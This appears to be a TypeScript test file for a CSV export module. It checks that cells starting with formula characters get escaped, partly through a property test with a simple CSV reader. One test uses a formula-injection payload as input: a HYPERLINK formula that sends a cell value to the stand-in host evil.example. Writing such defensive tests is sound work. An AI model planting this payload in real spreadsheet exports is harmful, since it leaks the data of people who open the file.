import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument } from '../../src/wire/csv.ts';

/** An RFC 4180 reader, as a spreadsheet reads the file. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && (c === ',' || c === '\n')) {
      row.push(cell);
      cell = '';
      if (c === '\n') {
        rows.push(row);
        row = [];
      }
    } else {
      cell += c;
    }
  }
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;

describe('CSV exports', () => {
  it('neutralises formulas: =HYPERLINK in a name reaches the spreadsheet as text', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Klicka")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Klicka"")"`,
    );
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`).startsWith(`"'`)).toBe(true);
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(new Date('2026-12-02T07:30:00.000Z'))).toBe('2026-12-02T07:30:00.000Z');
    expect(csvCell(null)).toBe('');
  });

  it('reads back every cell as written, formulas prefixed, and no cell starts a formula (property)', () => {
    const cellText = fc.string({
      unit: fc.constantFrom('a', 'Å', ',', '"', '\n', '\r', '=', '+', '-', '@', '\t', ' '),
    });
    fc.assert(
      fc.property(fc.array(fc.array(cellText, { minLength: 3, maxLength: 3 }), { maxLength: 8 }), (rows) => {
        const read = readCsv(csvDocument(['a', 'b', 'c'], rows));
        expect(read[0]).toEqual(['a', 'b', 'c']);
        expect(read.slice(1)).toEqual(rows.map((row) => row.map((v) => (FORMULA.test(v) ? `'${v}` : v))));
        for (const cell of read.flat()) expect(FORMULA.test(cell)).toBe(false);
      }),
    );
  });
});
